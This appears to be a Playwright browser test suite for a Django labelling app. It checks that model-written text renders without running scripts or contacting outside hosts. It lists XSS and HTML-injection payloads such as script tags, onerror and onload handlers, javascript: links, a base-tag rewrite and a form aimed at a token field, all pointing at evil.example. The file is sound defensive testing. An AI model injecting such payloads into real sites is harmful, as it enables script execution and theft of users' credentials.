"""What models wrote, rendered in a real Chromium: readable, and nothing in it does anything."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect
from pytest_django.live_server_helper import LiveServer

from annotation.models import Annotator
from tests import build
from tests.browser.conftest import SignIn
from tests.browser.labelling_page import arrived, opened, press, submitted
from tests.browser.looking import faults
from tests.cast import cast

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

STEPS = (
    "## How to fold it\n\n1. Take **one** sheet.\n2. Fold it.\n\n| side | folds |\n|---|---:|\n"
    "| long | 2 |\n\n```python\nif sheet:\n    fold(sheet)\n```\n\n"
    "> *Slowly.*\n\nSee [the drawing](https://evil.example/drawing)."
)
ATTACKS = (
    "# <script>alert(1)</script>\n![x](https://evil.example/a.png) **b**"
    "![y][z]\n\n[z]: https://evil.example/b.png",
    '<img src="https://evil.example/c.png" onerror="alert(1)"> `x`\n\n<svg onload=alert(1)>\n\n'
    '<style>@import "https://evil.example/d.css";</style>',
    '<div id="labelling" class="dialog" style="position:fixed;inset:0">*cover*</div>\n\n'
    '<form id="answers" action="https://evil.example"><input name="token" value="0"></form>',
    "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>"
    "\n\n[c](https://evil.example/e) <https://evil.example/f>",
    '`</code></template></div><script src="https://evil.example/g.js"></script>`\n\n'
    "```\n</pre><iframe src=https://evil.example/h></iframe>\n```",
    "|<link rel=stylesheet href=https://evil.example/i>|b|\n|-|-|\n"
    "|<base href=https://evil.example>|<meta http-equiv=refresh content='0;url=//evil.example'>|",
    "*safe* \u202egpj.exe <a id=token name=csrf href=x>**x**</a> "
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "> " * 5_000 + "*deep*",
)
TAME = "script, iframe, object, embed, img, link, style, form, input, a, svg, [id], [style]"


def heard(page: Page, home: str) -> list[str]:
    """Whatever the page says, asks or requests beyond its own server, from now on."""
    said: list[str] = []
    page.on("dialog", lambda dialog: said.append(dialog.message))
    page.on("console", lambda message: said.append(message.text))
    page.on(
        "request",
        lambda request: (
            said.append(request.url)
            if urlsplit(request.url).netloc != urlsplit(home).netloc
            else None
        ),
    )
    return said


def test_nothing_a_model_wrote_loads_runs_or_takes_a_place(
    enter: SignIn, live_server: LiveServer
) -> None:
    dataset = build.dataset(slug="texts")
    cast(dataset)
    pairs = list(zip(ATTACKS[::2], ATTACKS[1::2], strict=True))
    for number, says in enumerate(pairs):
        severity = 2 * (number % 2)  # every other pair is covered
        item = build.item(dataset, says=says, machine_severity=severity)
    build.campaign(dataset)
    page = enter("ana")
    said = heard(page, live_server.url)
    opened(page)
    for _ in pairs:
        page.keyboard.down("b")
        for side in "ab":
            part = page.locator(f"[data-part={side}]")
            expect(part.locator(".prose").first).to_be_visible()
            assert part.locator(".prose").locator(TAME).count() == 0
        page.keyboard.up("b")
        assert page.evaluate("document.querySelectorAll('#labelling, #answers').length") == 2
        submitted(page, "1", "s", "2", "s")
    arrived(page)
    page = enter("cora")
    said += heard(page, live_server.url)
    page.goto(f"/curate/texts/items/{item.pk}/")
    assert page.locator(".pane .prose").locator(TAME).count() == 0
    assert said == []


def test_what_a_model_wrote_does_nothing_on_the_page(
    enter: SignIn, live_server: LiveServer
) -> None:
    attack = (
        '<script>alert(1)</script><img src="https://evil.example/x" onerror="alert(1)">'
        "<svg onload=alert(1)> ![](https://evil.example/y.png) {{ 7 }} \u202egpj.exe"
        '</template></div><form action="https://evil.example"><template data-veiled>'
    )
    dataset = build.dataset(slug="texts")
    cast(dataset)
    build.item(dataset, asks=attack, says=(attack, attack + "!"))
    build.item(dataset, asks=attack, says=(attack + "?", attack), machine_severity=2)
    build.campaign(dataset)
    page = enter("ana")
    said = heard(page, live_server.url)
    opened(page)
    for _ in range(2):
        expect(page.locator("[data-part=prompt-text]")).to_contain_text("<script>alert(1)</script>")
        page.keyboard.down("b")
        expect(page.locator("[data-part=a]")).to_contain_text("onerror=")
        page.keyboard.up("b")
        submitted(page, "s", "s")
    assert said == []


def test_markdown_is_rendered_or_shown_as_it_was_written(enter: SignIn) -> None:
    dataset = build.dataset(slug="texts")
    cast(dataset)
    item = build.item(dataset, says=(STEPS, STEPS.replace("one", "two")))
    build.campaign(dataset)
    page = opened(enter("ana"))
    pane = page.locator("[data-part=a]")
    expect(pane.locator("h3")).to_have_text("How to fold it")
    expect(pane.locator("td").last).to_have_text("2")
    expect(pane.locator("pre code")).to_contain_text("    fold(sheet)")
    expect(pane).to_contain_text("the drawing (https://evil.example/drawing)")
    assert faults(page) == []
    press(page, "1", "u")
    with page.expect_navigation():
        press(page, "Shift+T")
    page.wait_for_selector("[data-ready]")
    expect(pane).to_contain_text("## How to fold it")
    expect(page.get_by_role("button", name="As written")).to_have_attribute("aria-pressed", "true")
    expect(page.locator("input[name=a-safe][value=false]")).to_be_checked()  # nothing was lost
    assert Annotator.objects.get(user__username="ana").settings == {"as_written": True}
    page = enter("cora")  # it is Ana's choice, not Cora's
    page.goto(f"/curate/texts/items/{item.pk}/")
    expect(page.locator(".pane h3").first).to_have_text("How to fold it")
    page.get_by_role("button", name="As written").click()
    expect(page.locator(".pane").first).to_contain_text("## How to fold it")
